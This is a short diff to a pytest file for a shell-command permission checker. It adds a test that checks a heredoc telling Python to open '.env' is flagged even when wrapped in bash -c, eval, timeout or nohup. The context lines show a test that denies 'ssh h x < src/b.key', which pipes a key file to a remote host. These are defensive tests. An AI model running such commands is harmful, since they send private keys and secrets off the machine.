@@ -89,3 +89,10 @@ def test_a_rule_for_the_tool_as_a_whole_takes_nothing_from_what_others_allow(tmp
 @pytest.mark.parametrize("form", ["bash -c %r", "timeout 5 sh -c %r", "eval %r"])
 def test_what_is_redirected_to_ssh_is_a_file_of_this_machine(decide, form):
     assert decide("ssh h x < src/b.key").verdict == decide(form % "ssh h x < src/b.key").verdict == "deny"
+
+
+@pytest.mark.parametrize("form", ["bash -c %r", "eval %r", "timeout 5 bash -c %r", "nohup sh -c %r"])
+def test_what_a_program_is_told_in_an_inner_script_is_looked_through(decide, form):
+    told = 'python <<E\nopen(".env")\nE'
+    assert decide(told).maybe_denied
+    assert decide(form.replace("%r", f"'{told}'")).maybe_denied
